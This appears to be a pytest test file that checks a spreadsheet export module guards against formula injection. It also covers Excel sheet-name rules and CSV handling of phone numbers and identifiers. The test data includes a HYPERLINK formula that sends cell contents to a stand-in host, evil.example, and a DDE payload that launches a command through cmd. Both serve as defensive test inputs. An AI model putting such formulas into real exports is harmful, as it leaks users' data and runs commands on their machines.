"""Spreadsheet formula injection (issue 22): text that a spreadsheet would run as a
formula is written as text, in every export; sheet names Excel accepts."""

import csv
import io
from decimal import Decimal as D

import pytest

from core.common.exports import safe_cell, safe_row, sheet_title

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_escaped(text):
    assert safe_cell(text) == "'" + text


def test_other_values_pass_through():
    assert safe_row(["Siti", 5, D("1.5"), None, "", "A=1"]) == [
        "Siti",
        5,
        D("1.5"),
        None,
        "",
        "A=1",
    ]


def test_sheet_title_drops_what_excel_refuses_and_keeps_31_characters():
    assert sheet_title("Hibah / Donasi") == "Hibah - Donasi"
    assert sheet_title("a\\b*c?d:e[f]g") == "a-bcdefg"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("'kutip'") == "kutip"
    assert sheet_title(" / ") == "-"
    assert sheet_title("::") == "Data"


@pytest.mark.parametrize("phone", ["+6281234567890", "+62 812-3456-7890", "+62 21 555 1234"])
def test_a_phone_number_is_no_formula_and_is_left_alone(phone):
    assert safe_cell(phone) == phone


@pytest.mark.parametrize(
    "text", ["+cmd|' /C calc'!A0", "+62+1", "+62 812*2", "+", "+ 62", "-62812", "=62812", "@62812"]
)
def test_plus_followed_by_more_than_a_phone_number_stays_guarded(text):
    assert safe_cell(text) == "'" + text


def test_csv_export_writes_long_digit_identifiers_as_excel_text_and_nothing_else():
    from core.common.exports import Column, export_csv

    cols = [Column("v", "v")]
    values = [
        "198503152010011001",  # NIP: Excel would show 1,98503E+17 and round it
        "+6281234567890",  # phone: Excel would drop the +
        "081234567890",  # phone: Excel would drop the leading 0
        "0001",  # a member number with leading zeros
        "12345",  # short digits: Excel shows them right, left alone
        "A-0001",
        '1"2',
        D("1250000"),  # amounts stay numbers
        "=1+2",  # guarded as before, never wrapped
        "+62 812-3456-7890",
    ]
    body = export_csv(columns=cols, rows=[{"v": v} for v in values]).decode("utf-8-sig")
    got = [r[0] for r in csv.reader(io.StringIO(body))][1:]
    assert got == [
        '="198503152010011001"',
        '="+6281234567890"',
        '="081234567890"',
        '="0001"',
        "12345",
        "A-0001",
        '1"2',
        "1250000",
        "'=1+2",
        '="+62 812-3456-7890"',
    ]
